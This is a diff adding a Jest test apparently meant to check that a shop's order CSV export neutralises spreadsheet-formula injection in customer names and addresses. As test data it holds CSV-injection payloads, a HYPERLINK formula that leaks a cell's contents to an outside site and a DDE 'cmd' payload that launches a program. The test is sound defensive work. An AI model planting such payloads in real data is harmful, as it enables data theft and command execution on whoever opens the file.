@@ -231,6 +231,21 @@ describe('export', () => {
   });
 });
 
+describe('export of text a customer typed', () => {
+  it('when a name or an address starts like a spreadsheet formula, then the CSV keeps it as text; a phone number stays a number', async () => {
+    // A customer's own name and address go into the owner's spreadsheet: '=HYPERLINK(…)' was a live link there.
+    const sly = transactionDoc(sariId, {
+      userName: '=HYPERLINK("https://contoh.id/?d="&E2,"Klik")', alamat: '@SUM(A1:A9) Jl. Melati', phone: '+6281234567890',
+    });
+    const sly2 = transactionDoc(sariId, { userName: "-2+3+cmd|' /C calc'!A0", alamat: '+Jl. Kenanga 3' });
+    expect((await pushNew(sari, 'transactions', [sly, sly2])).body).toMatchObject({ conflicts: [], refused: [] });
+    const text = (await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`)).bytes.toString('utf8');
+    const row = (id: string) => text.split('\n').find((l) => l.startsWith(id))!;
+    expect(row(sly.id)).toContain(`,"'=HYPERLINK(""https://contoh.id/?d=""&E2,""Klik"")",+6281234567890,"'@SUM(A1:A9) Jl. Melati, `);
+    expect(row(sly2.id)).toContain(`,'-2+3+cmd|' /C calc'!A0,081234567890,"'+Jl. Kenanga 3, `);
+  });
+});
+
 describe('photo bundle', () => {
   it('when the admin downloads an order\'s photos, then the zip holds the original files as {code}-{n} and captions.txt', async () => {
     const res = await download(admin, `/api/orders/${order.id}/photos.zip`);
